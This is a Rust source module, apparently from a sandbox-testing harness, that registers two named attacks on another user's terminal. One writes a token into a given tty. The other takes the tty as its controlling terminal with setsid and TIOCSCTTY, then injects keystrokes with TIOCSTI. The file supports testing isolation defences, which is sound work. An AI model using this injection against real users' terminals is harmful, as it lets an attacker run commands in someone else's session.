//! The terminal of another user.

use crate::arguments::Arguments;
use crate::outcome::{Attack, Outcome, system_call};

pub(crate) const ATTACKS: &[Attack] = &[("terminal-write", write), ("terminal-inject", inject)];

fn write(arguments: &Arguments) -> Outcome {
    let path = arguments.path(0)?;
    let token = arguments.text(1)?;
    let flags = libc::O_WRONLY | libc::O_NOCTTY;
    let fd = system_call!("open", libc::SYS_openat, libc::AT_FDCWD, path.as_ptr(), flags, 0)?;
    system_call!("write", libc::SYS_write, fd, token.as_ptr(), token.len())?;
    Ok(String::new())
}

/// Makes it the terminal of an own session, and types into it.
fn inject(arguments: &Arguments) -> Outcome {
    let path = arguments.path(0)?;
    let _ = system_call!("setsid", libc::SYS_setsid);
    let flags = libc::O_RDWR | libc::O_NOCTTY;
    let fd = system_call!("open", libc::SYS_openat, libc::AT_FDCWD, path.as_ptr(), flags, 0)?;
    system_call!("TIOCSCTTY", libc::SYS_ioctl, fd, libc::TIOCSCTTY, 0)?;
    for byte in arguments.text(1)?.bytes() {
        system_call!("TIOCSTI", libc::SYS_ioctl, fd, libc::TIOCSTI, &raw const byte)?;
    }
    Ok(String::new())
}
